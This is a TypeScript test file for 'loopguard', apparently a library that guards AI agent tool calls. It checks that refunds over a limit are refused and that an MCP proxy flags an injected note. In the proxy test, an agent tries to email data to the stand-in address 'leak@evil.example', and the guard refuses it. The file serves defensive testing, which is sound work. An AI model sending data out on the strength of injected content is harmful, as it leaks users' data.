import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import { messagesApiServer } from "@loopguard/core/testing";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { ReadBuffer, serializeMessage } from "@modelcontextprotocol/sdk/shared/stdio.js";
import type { Transport } from "@modelcontextprotocol/sdk/shared/transport.js";
import { MockLanguageModelV3 } from "ai/test";
import { describe, expect, it } from "vitest";
import { refundDesk } from "../ai-sdk/refund-desk.js";
import { guardedAgent } from "../claude-agent-sdk/guarded-agent.js";
import { guardedClient, guardingProxy } from "../mcp/guarded-notes.js";

const usage = {
  inputTokens: { total: 50, noCache: 50, cacheRead: 0, cacheWrite: 0 },
  outputTokens: { total: 10, text: 10, reasoning: 0 },
};

describe("examples/ai-sdk", () => {
  it("the refund desk refunds within the limit, refuses above it, and the model reads why", async () => {
    let turn = 0;
    const model = new MockLanguageModelV3({
      doGenerate: async () => {
        turn += 1;
        const calls =
          turn === 1
            ? [
                {
                  toolCallId: "c1",
                  toolName: "issue_refund",
                  input: '{"order_id":"A1","amount":40}',
                },
                {
                  toolCallId: "c2",
                  toolName: "issue_refund",
                  input: '{"order_id":"A2","amount":400}',
                },
              ]
            : [];
        return calls.length > 0
          ? {
              content: calls.map((call) => ({ type: "tool-call" as const, ...call })),
              finishReason: { unified: "tool-calls" as const, raw: "tool_use" },
              usage,
              warnings: [],
            }
          : {
              content: [{ type: "text" as const, text: "Refunded A1; A2 needs a manager." }],
              finishReason: { unified: "stop" as const, raw: "end_turn" },
              usage,
              warnings: [],
            };
      },
    });
    const report = await refundDesk(model, "Refund A1 (40) and A2 (400)");
    expect(report).toEqual({
      answer: "Refunded A1; A2 needs a manager.",
      refunds: ["A1:40:c1"],
      refused: ["issue_refund:refund_over_limit"],
      steps: 2,
    });
    const second = model.doGenerateCalls[1]!.prompt.flatMap((message) =>
      message.role === "tool" ? message.content : [],
    );
    expect(JSON.stringify(second)).toContain("Refused by loopguard (refund_over_limit)");
  });
});

describe("examples/mcp", () => {
  it("guardMcpTools: the in-domain email goes out, the out-of-domain one is refused", async () => {
    const outcomes = await guardedClient();
    expect(outcomes[0]).toContain("Refunds over $100 need a manager");
    expect(outcomes[1]).toBe("sent to team@acme-shop.com");
    expect(outcomes[2]).toMatch(/^refused: /);
  });

  it("runMcpProxy: a host sees the server's tools and gets refusals as MCP tool errors", async () => {
    const toProxy = new PassThrough();
    const fromProxy = new PassThrough();
    const proxy = await guardingProxy(toProxy, fromProxy);
    const host = new Client({ name: "host", version: "1.0.0" });
    await host.connect(lineTransport(fromProxy, toProxy));
    try {
      expect((await host.listTools()).tools.map((tool) => tool.name)).toEqual([
        "read_note",
        "send_email",
      ]);
      const note = await host.callTool({ name: "read_note", arguments: { name: "pasted" } });
      expect(proxy.run.outputs[0]?.scan?.verdict).toBe("injection");
      expect(note.isError).toBeFalsy();
      const leak = await host.callTool({
        name: "send_email",
        arguments: { to: "leak@evil.example", body: "export" },
      });
      expect(leak.isError).toBe(true);
      expect(JSON.stringify(leak.content)).toContain("Refused by loopguard");
    } finally {
      await host.close();
      await proxy.close();
    }
  });
});

describe("examples/claude-agent-sdk", () => {
  it("the guarded agent refunds within the limit and is refused above it (real SDK, loopback API)", async () => {
    let turn = 0;
    const server = await messagesApiServer({
      handler: () => {
        turn += 1;
        if (turn === 1)
          return {
            content: [
              {
                type: "tool_use",
                id: "toolu_1",
                name: "mcp__shop__issue_refund",
                input: { order_id: "A2", amount: 400 },
              },
            ],
            stop_reason: "tool_use",
          };
        if (turn === 2)
          return {
            content: [
              {
                type: "tool_use",
                id: "toolu_2",
                name: "mcp__shop__issue_refund",
                input: { order_id: "A1", amount: 40 },
              },
            ],
            stop_reason: "tool_use",
          };
        return { content: [{ type: "text", text: "Refunded A1; A2 needs a manager." }] };
      },
    });
    const configDir = mkdtempSync(join(tmpdir(), "loopguard-example-"));
    try {
      const report = await guardedAgent("Refund A1 (40) and A2 (400)", {
        ...process.env,
        ANTHROPIC_BASE_URL: server.url,
        ANTHROPIC_API_KEY: "sk-ant-test",
        CLAUDE_CONFIG_DIR: configDir,
        CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: "1",
        DISABLE_AUTOUPDATER: "1",
      });
      expect(report).toEqual({
        refunds: ["A1:40"],
        refused: ["mcp__shop__issue_refund:refund_over_limit"],
        answer: "Refunded A1; A2 needs a manager.",
      });
    } finally {
      await server.close();
      rmSync(configDir, { recursive: true, force: true });
    }
  }, 600_000);
});

/** A host's end of a stdio link (newline-delimited JSON-RPC over two streams). */
function lineTransport(input: PassThrough, output: PassThrough): Transport {
  const buffer = new ReadBuffer();
  const transport: Transport = {
    async start() {
      input.on("data", (chunk: Buffer) => {
        buffer.append(chunk);
        for (let message = buffer.readMessage(); message; message = buffer.readMessage())
          transport.onmessage?.(message);
      });
    },
    async send(message) {
      output.write(serializeMessage(message));
    },
    async close() {
      output.end();
      transport.onclose?.();
    },
  };
  return transport;
}
